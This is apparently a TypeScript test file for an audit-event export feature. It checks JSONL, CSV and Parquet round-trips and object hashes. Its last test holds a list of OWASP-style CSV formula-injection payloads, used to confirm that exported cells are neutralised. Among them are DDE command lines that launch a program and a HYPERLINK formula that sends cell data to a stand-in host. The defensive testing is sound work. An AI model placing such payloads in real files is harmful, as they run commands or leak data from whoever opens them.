/** What goes in comes out: 50,000 events in each format, read by others, and cells that no spreadsheet calculates. */
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Event } from '#core/event/event.ts';
import { columns } from '#core/export/columns.ts';
import { exporter, exportWorld, fill } from './export-world.ts';
import { eventOf } from './world.ts';

const count = 50_000;
/** Names that CSV, JSON and Parquet trip over. */
const names = ['Ann "Q" O’Neil, Jr.', 'line\r\nbreak', '=1+1', '', '日本語 🎉', "it's; a\ttab", '\\N', 'NULL'];
const events: readonly Event[] = Array.from({ length: count }, (_, n) => {
  const event = eventOf(n);
  return {
    ...event,
    actor: { ...event.actor, name: names[n % names.length]! },
    external_id: n % 5 ? `x${n}` : undefined!,
  };
}).map((event) => JSON.parse(JSON.stringify(event)) as Event);
const wanted = events.toReversed();
const limits = { stepMs: 1000, pageEvents: 4000, partEvents: 20_000, partRawBytes: 1e9 };

let made: Awaited<ReturnType<typeof exportWorld>>;
const folder = mkdtempSync(join(tmpdir(), 'trailkeep-formats-'));
beforeAll(async () => {
  made = await exportWorld('export_formats');
  // Part and block filters of 50,000 events take long to make, and nothing here is looked for by them.
  fill(made.world, events, 400, 25);
}, 120_000);
afterAll(async () => {
  await made.database.drop();
  rmSync(folder, { recursive: true, force: true });
});

/** Built, counted, and each object the one that its row names. */
async function built(format: string): Promise<string> {
  const { id } = await made.ask({ format });
  await made.settle(made.ports, limits);
  expect(await made.stateOf(id)).toMatchObject({ state: 'ready', events: count, parts: 3 });
  const rows = await made.ports.exports.parts(exporter.tenant, id, 0, 100);
  for (const [at, object] of (await made.objectsOf(id)).entries()) {
    expect(createHash('sha256').update(object).digest('hex')).toBe(rows[at]!.sha256);
    expect(object.length).toBe(rows[at]!.bytes);
  }
  return id;
}

test('JSONL, row for row', async () => {
  const lines = (await made.textOf(await built('jsonl'))).split('\n');
  expect(lines.pop()).toBe('');
  expect(lines.length).toBe(count);
  for (const [at, line] of lines.entries()) expect(line).toBe(JSON.stringify(wanted[at]));
}, 120_000);

test('CSV, row for row, with one header', async () => {
  const text = await made.textOf(await built('csv'));
  const rows = parse(text, { record_delimiter: '\r\n' }) as string[][];
  expect(rows.shift()).toEqual(columns.map(({ name }) => name));
  expect(rows.length).toBe(count);
  for (const [at, row] of rows.entries()) {
    const cells = columns.map(({ of }) => of(wanted[at]!) ?? '').map((cell) => (cell === '=1+1' ? "'=1+1" : cell));
    if (row.join('\u0000') !== cells.join('\u0000')) expect(row).toEqual(cells);
    expect(row.at(-1)).toBe(JSON.stringify(wanted[at]));
  }
}, 120_000);

test('Parquet, row for row, as DuckDB reads it', async () => {
  const id = await built('parquet');
  for (const [at, object] of (await made.objectsOf(id)).entries()) writeFileSync(join(folder, `${at}.parquet`), object);
  const db = await (await DuckDBInstance.create(':memory:')).connect();
  const types = await db.runAndReadAll(`describe select * from '${folder}/*.parquet'`);
  expect(types.getRows().map(([name, type]) => [name, type])).toEqual(
    columns.map(({ name, type }) => [name, type === 'time' ? 'TIMESTAMP WITH TIME ZONE' : 'VARCHAR']),
  );
  const list = columns.map(({ name, type }) => (type === 'time' ? `epoch_ms(${name})::double as ${name}` : name));
  const read = await db.runAndReadAll(
    `select ${list.join(', ')} from read_parquet('${folder}/*.parquet') order by epoch_ms(occurred_at) desc`,
  );
  const rows = read.getRows();
  expect(rows.length).toBe(count);
  for (const [at, row] of rows.entries()) {
    const cells = columns.map(({ of, type }) => {
      const text = of(wanted[at]!);
      return text === undefined ? null : type === 'time' ? Date.parse(text) : text;
    });
    if (JSON.stringify(row) !== JSON.stringify(cells)) expect(row).toEqual(cells);
  }
  db.closeSync();
}, 120_000);

test('the guide names every column, in their order', () => {
  const guide = readFileSync('docs/guides/export.md', 'utf8');
  const table = guide.slice(guide.indexOf('CSV and Parquet have the same columns'), guide.indexOf('New columns come'));
  const named = [...table.matchAll(/^\| ([^|]+) \|/gm)].flatMap(([, cell]) =>
    [...cell!.matchAll(/`(\w+)`/g)].map(([, name]) => name),
  );
  expect(named).toEqual(columns.map(({ name }) => name));
});

// OWASP, "CSV Injection", and what scanners try.
const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '  @x',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '|calc',
  '=1+1\n,=2+2',
  '"=1+1',
  '",=1+1,"',
  '=1+1;=2+2',
  '%0A=1',
];

test('no cell of CSV begins as a formula, and the event itself is not changed', async () => {
  const world = await exportWorld('export_formula');
  const evil = payloads.map((text, n): Event => {
    const event = eventOf(n);
    return {
      ...event,
      actor: { type: 'user', id: text, name: text, email: text },
      targets: [{ type: text, id: text, name: text }],
      context: { ip: text, user_agent: text, service: text },
      outcome: { result: 'failure', reason: text },
      ...{ project: text, environment: text, subject: text, operation_id: text, external_id: text },
    };
  });
  world.world.addCritical(...evil);
  const { id } = await world.ask({ format: 'csv' });
  await world.settle();
  const text = await world.textOf(id);
  const rows = (parse(text, { record_delimiter: '\r\n' }) as string[][]).slice(1);
  expect(rows).toHaveLength(payloads.length);
  for (const [at, row] of rows.entries()) {
    const payload = payloads.toReversed()[at]!;
    for (const [column, cell] of row.entries()) {
      expect(cell, columns[column]!.name).not.toMatch(/^[=+\-@\t\r\n|＝＋－＠]/);
      expect(cell.trimStart(), columns[column]!.name).not.toMatch(/^[=+\-@＝＋－＠|]/);
    }
    const name = row[columns.findIndex((one) => one.name === 'actor_name')]!;
    expect([payload, `'${payload}`]).toContain(name);
    // The last cell is the event, exactly.
    expect(JSON.parse(row.at(-1)!)).toEqual(JSON.parse(JSON.stringify(evil.toReversed()[at])));
  }
  // A cell with an apostrophe before it is quoted too: a separator of another locale does not open a second cell.
  expect(text).toContain(`"'=1+1;=2+2"`);
  await world.database.drop();
});
